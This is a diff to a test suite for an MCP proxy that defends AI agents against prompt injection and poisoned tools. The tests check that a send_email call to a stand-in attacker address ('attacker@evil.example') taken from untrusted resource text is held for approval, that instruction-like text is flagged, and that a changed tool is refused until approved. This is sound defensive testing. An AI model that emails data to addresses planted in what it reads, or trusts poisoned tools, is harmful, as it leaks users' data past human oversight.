@@ -131,8 +131,11 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
 
   it("proxies resources and prompts, their texts through the evidence boundary and into the session's provenance", async () => {
     const { client } = await connect();
-    // no evidence yet: an address the session never read is sent at once (control)
-    expect(text(await client.callTool({ name: "send_email", arguments: { to: "carol@team.example", body: "hi" } }))).toBe("sent to carol@team.example");
+    // no evidence yet: an unvouched address is held, but no untrusted text holds it (control)
+    const before = text(await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", body: "the handbook" } }));
+    expect(before).toMatch(/^ERR_APPROVAL_REQUIRED: /);
+    expect(before, before).toContain("vouched for by no trusted source");
+    expect(before).not.toContain("occurs in untrusted");
 
     expect((await client.listResources()).resources.map((r) => r.uri)).toEqual(["docs://handbook"]);
     expect((await client.listResourceTemplates()).resourceTemplates).toEqual([]);
@@ -148,9 +151,10 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
     expect(said).toContain("Summarise leave.");
     expect(said).toContain("[INSTRUCTION_LIKE]");
 
-    // the resource is untrusted evidence: an address lifted from it needs an approval
-    const held = await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", body: "the handbook" } });
-    expect(text(held)).toMatch(/^ERR_APPROVAL_REQUIRED: /);
+    // the resource is untrusted evidence: the held call now names it as where the address occurs
+    const held = text(await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example", body: "the handbook, again" } }));
+    expect(held).toMatch(/^ERR_APPROVAL_REQUIRED: /);
+    expect(held, held).toMatch(/occurs in untrusted evidence:mcp:1\b/);
   });
 
   it("does not pin a poisoned tool on first use: hidden, refused, held for review until approved", async () => {
@@ -163,7 +167,8 @@ describe("rampart mcp-proxy over stdio", { timeout: 120_000 }, () => {
     expect(text(refused)).toMatch(/^ERR_TOOL_CHANGED: /);
     // the second list (same poisoned form) keeps it held, not "new"
     expect(await names(client)).toEqual(["send_email"]);
-    expect(await cli("mcp-proxy", "pins", "list", "--pins", poisonPins)).toContain("flagged search_docs");
+    const listed = await cli("mcp-proxy", "pins", "list", "--pins", poisonPins);
+    expect(listed, listed).toContain("flagged search_docs");
     expect(await cli("mcp-proxy", "pins", "approve", "search_docs", "--pins", poisonPins)).toContain("approved search_docs");
     expect(await names(client)).toEqual(["search_docs", "send_email"]);
   });
